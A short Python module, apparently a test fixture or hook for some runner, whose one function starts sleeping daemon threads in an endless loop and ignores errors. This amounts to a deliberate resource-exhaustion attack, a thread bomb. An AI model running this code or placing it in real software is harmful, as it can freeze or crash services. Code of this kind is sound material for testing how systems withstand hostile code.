"""Starts threads for ever."""

import threading, time


def during(name, honest, args, kwargs):
    while True:
        try:
            threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
        except RuntimeError:
            pass
